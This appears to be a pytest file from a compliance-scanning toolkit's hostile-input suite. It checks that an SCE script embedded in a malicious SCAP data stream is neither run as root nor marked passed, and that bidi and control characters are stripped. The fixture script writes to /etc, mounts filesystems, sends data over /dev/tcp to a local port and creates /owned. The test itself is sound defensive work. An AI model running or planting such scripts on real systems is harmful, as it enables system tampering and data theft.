"""A data stream brings a script (SCE, Script Check Engine) that oscap is to run as root, and odd titles.

What does run one is a plugin of oscap's, which the bundle has not; a rule of such a script is not reviewed.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from tests.hostile.conftest import REPOSITORY
from tests.hostile.naive import tool, visit
from tests.hostile.profiles.content import ATTACK, HONEST, PROFILE, TITLE, data_stream
from tests.hostile.profiles.engine import plant
from toolkit.reports import hdf

pytestmark = [pytest.mark.root, pytest.mark.bundle]

SCRIPT = """#!/bin/sh
echo planted > /etc/planted
mount -t tmpfs tmpfs /mnt
echo stolen > /dev/tcp/127.0.0.1/8080
[ -e /etc/planted ] && exec touch /owned
exit ${XCCDF_RESULT_PASS:-101}
"""


def _scan(uri: str, content: Path, *more: str) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "invoke", "--search-root", str(REPOSITORY), "scan", "--target", uri]
    return subprocess.run(
        [*command, "--profile", f"{content}#{PROFILE}", *more],
        cwd=content.parent,
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )


def test_the_script_is_not_run_and_not_passed(works, container, tmp_path):
    target = container(prepare=plant)
    works(visit(target.tree, [tool("sh"), "-c", SCRIPT]).owned, "who runs the script as root lets it write")
    content = tmp_path / "evil.xml"
    content.write_text(data_stream(SCRIPT, "/etc/answer"))
    done = _scan(target.uri, content)
    assert done.returncode == 101, done.stderr
    (report,) = tmp_path.glob("reports/*/*/report.hdf.json")
    controls = json.loads(report.read_text())["profiles"][0]["controls"]
    found = {control["id"]: hdf.control_status(control).value for control in controls}
    assert found == {ATTACK: "not_reviewed", HONEST: "passed"}
    assert any(control["title"] == TITLE for control in controls)
    assert not {"\u009b", "\u202e"} & set(done.stdout + done.stderr)
    assert target.written() == set()
